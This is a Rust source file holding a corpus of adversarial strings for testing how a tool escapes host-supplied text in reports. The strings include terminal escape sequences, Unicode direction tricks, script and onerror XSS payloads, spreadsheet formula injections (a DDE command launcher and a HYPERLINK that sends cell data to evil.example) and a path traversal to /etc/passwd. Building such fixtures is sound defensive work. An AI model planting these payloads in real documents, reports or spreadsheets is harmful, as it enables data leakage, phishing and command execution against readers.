//! What a host could say to harm whoever reads a report.

/// Strings that mean something to a terminal, XML, a spreadsheet, Markdown or a URI.
pub(crate) const CORPUS: &[&str] = &[
    "\x1b]0;pwned\x07\x1b[31mred",
    "nul \0, bell \x07, escape \x1b, delete \x7f, c1 \u{9b}31m",
    "\u{202e}desrever\u{2066} isolated\u{2069}\u{200b}zero\u{feff}",
    "noncharacters \u{fffe}\u{ffff} and \u{fffd}",
    "]]> <!-- --> <![CDATA[ &amp; &#x1b; <script>alert(1)</script> \"quoted\" 'quoted'",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1;=1+1,@SUM(A1)|-2+3",
    "\t=cmd|' /C calc'!A0",
    "＝1+1",
    "a|b\\|c | d",
    "`code` ``two`` ``` fence",
    "@everyone #1 !2 [link](http://evil.example) ![image](http://evil.example/x.png) https://evil.example",
    "<img src=x onerror=alert(1)> <!-- --> </details>",
    "line one\nline two\r\n| a | row |\n# heading",
    "{0} {{1}} [a](0) \\[b\\]",
    "../../etc/passwd?x=1#frag%00 ..",
    "製品が見つかりました",
];
